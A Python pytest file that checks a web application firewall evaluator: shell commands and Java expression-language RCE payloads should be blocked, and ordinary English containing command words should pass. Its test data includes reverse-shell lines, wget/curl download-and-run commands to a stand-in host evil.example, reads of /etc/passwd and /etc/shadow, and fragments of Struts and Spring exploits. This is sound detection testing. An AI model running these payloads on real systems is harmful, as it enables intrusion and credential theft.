"""What the six AWS managed groups' content decides on single values: Unix commands need shell context (CRS 932150
refined), Java expression-language RCE and separator + system-binary paths are blocked, and the English that CRS's
command-word, quote, parenthesis and PHP-name rules flag passes."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from bench.waf_detection import UA_RULE, web_acl

from strongroom.waf import WafRequest, WebAclEvaluator

BROWSER = (("Host", "shop.example.com"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Firefox/125.0"))


@pytest.fixture(scope="module")
def six() -> WebAclEvaluator:
    return WebAclEvaluator(web_acl())


@pytest.fixture(scope="module")
def unix() -> WebAclEvaluator:
    # the Unix group alone: which rule terminates is then its own (the Common group's LFI rules run first in six)
    return WebAclEvaluator(web_acl(("AWSManagedRulesUnixRuleSet",)))


def _query(value: str) -> WafRequest:
    return WafRequest("GET", "/search", "q=" + quote(value), BROWSER)


def _json_body(value: str) -> WafRequest:
    body = ('{"bio": "' + value.replace('"', '\\"') + '"}').encode()
    return WafRequest("POST", "/api/v1/users/1", "", (*BROWSER, ("Content-Type", "application/json")), body)


def _rule(ev: WebAclEvaluator, req: WafRequest) -> str | None:
    d = ev.evaluate(req, now=1_700_000_000.0)
    return None if d.action == "ALLOW" else d.terminating_group_rule


# A command word at the start of a value, followed by what only a shell command line has.
UNIX_COMMANDS = [
    "cat /etc/passwd",
    "cat ../../etc/shadow",
    "python ~/.local/run",
    "ls -la",
    "wget http://evil.example/x.sh",
    "wget evil.example/x -O /tmp/x",
    "curl http://10.0.0.1/x|sh",
    "nc evil.example 4444",
    "nc 10.0.0.1 4444 -e /bin/sh",
    "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
    "python -c 'import os'",
    "python exploit.py",
    "echo $PATH",
    "echo hello|sh",
    "echo hello > /var/www/x.php",
    "ping 127.0.0.1",
    "svn co http://evil.example/x",
    "cat</etc/passwd",
    "/bin/cat x",
    "x=1 cat /etc/passwd",
]


@pytest.mark.parametrize("value", UNIX_COMMANDS)
def test_unix_commands_in_shell_context_are_blocked(unix: WebAclEvaluator, value: str) -> None:
    assert _rule(unix, _query(value)) == "UNIXShellCommandsVariables_QUERYARGUMENTS"
    assert _rule(unix, _json_body(value)) == "UNIXShellCommandsVariables_BODY"


# Words that are Unix commands, used as English (CRS 932150 at PL1 blocks every one of them).
COMMAND_WORDS_AS_ENGLISH = [
    "cat food",
    "echo dot speaker",
    "exec summary template",
    "python tutorial",
    "python 3.12 release notes",
    "time to go",
    "time management tips",
    "tail light replacement",
    "ping pong table",
    "java developer jobs",
    "ruby wedding anniversary",
    "head and shoulders shampoo",
    "nc state basketball",
    "echo & the bunnymen tickets",
    "cat food - 12 pack",
    "cat food / dog food",
    "time $5 deals",
]


@pytest.mark.parametrize("value", COMMAND_WORDS_AS_ENGLISH)
def test_command_words_in_english_pass(six: WebAclEvaluator, value: str) -> None:
    assert _rule(six, _query(value)) is None
    assert _rule(six, _json_body(value)) is None


# What CRS's paranoia-2/3 quote, parenthesis and PHP-name rules (942110, 942300, 942410, 942510, 933161) flag.
PROSE = [
    '"red dress"',
    "'summer sale'",
    "James'",
    "kids' shoes",
    "The price is (roughly) $50 cheaper elsewhere",
    "Comes in red or blue(ish) tones",
    "Ordered the 2-pack (not the 3-pack) by mistake",
    "the end (finally)",
]


@pytest.mark.parametrize("value", PROSE)
def test_quotes_and_parentheticals_in_prose_pass(six: WebAclEvaluator, value: str) -> None:
    assert _rule(six, _query(value)) is None


def test_a_separator_then_a_system_binary_path_is_a_command(unix: WebAclEvaluator) -> None:
    # CRS 932200's case: the command name is globbed past the word lists, the path still says "shell"
    assert _rule(unix, _query("www.example.com;/bin/ca? /et*/passwd")) == "UNIXShellCommandsVariables_QUERYARGUMENTS"
    assert _rule(unix, _query("a|/usr/local/bin/x")) == "UNIXShellCommandsVariables_QUERYARGUMENTS"
    assert _rule(unix, _query("files in /usr/bin and /bin")) is None


@pytest.mark.parametrize(
    ("req", "rule"),
    [
        # Struts 2 OGNL in Content-Type (CVE-2017-5638)
        (
            WafRequest("GET", "/", "", (*BROWSER, ("Content-Type", "%{(#nike='multipart/form-data').(#dm=@ognl"))),
            "JavaDeserializationRCE_HEADER",
        ),
        # Spring Cloud Function SpEL routing expression (CVE-2022-22963)
        (
            WafRequest(
                "POST",
                "/functionRouter",
                "",
                (
                    *BROWSER,
                    ("spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("id")'),
                ),
            ),
            "JavaDeserializationRCE_HEADER",
        ),
        # Spring4Shell data binding (CVE-2022-22965)
        (
            WafRequest(
                "GET", "/app", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", BROWSER
            ),
            "JavaDeserializationRCE_QUERYSTRING",
        ),
        (
            WafRequest(
                "POST",
                "/app",
                "",
                (*BROWSER, ("Content-Type", "application/x-www-form-urlencoded")),
                b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
            ),
            "JavaDeserializationRCE_BODY",
        ),
    ],
)
def test_java_expression_language_rce_is_blocked(six: WebAclEvaluator, req: WafRequest, rule: str) -> None:
    assert _rule(six, req) == rule


def test_java_rules_leave_ordinary_java_words_alone(six: WebAclEvaluator) -> None:
    assert _rule(six, _query("class loader tutorial for java modules")) is None
    headers = (*BROWSER, ("spring.cloud.function.routing-expression", "headers['type']"))
    assert _rule(six, WafRequest("POST", "/functionRouter", "", headers)) is None


def test_no_user_agent_is_blocked_by_default_and_counted_when_overridden() -> None:
    req = WafRequest("GET", "/", "", (("Host", "shop.example.com"),))
    d = WebAclEvaluator(web_acl()).evaluate(req, now=1_700_000_000.0)
    assert (d.action, d.terminating_group_rule) == ("BLOCK", UA_RULE)
    counted = WebAclEvaluator(web_acl(count=(UA_RULE,))).evaluate(req, now=1_700_000_000.0)
    assert counted.action == "ALLOW"
    assert "awswaf:managed:aws:core-rule-set:NoUserAgent_Header" in counted.labels


@pytest.mark.parametrize(
    ("path", "blocked"),
    [("/index.php~", True), ("/app/config.inc.php~/x", True), ("/~john/index.html", False), ("/docs/a~b", False)],
)
def test_editor_backup_files_are_restricted_extensions(six: WebAclEvaluator, path: str, blocked: bool) -> None:
    rule = _rule(six, WafRequest("GET", path, "", BROWSER))
    assert rule == ("RestrictedExtensions_URIPATH" if blocked else None)
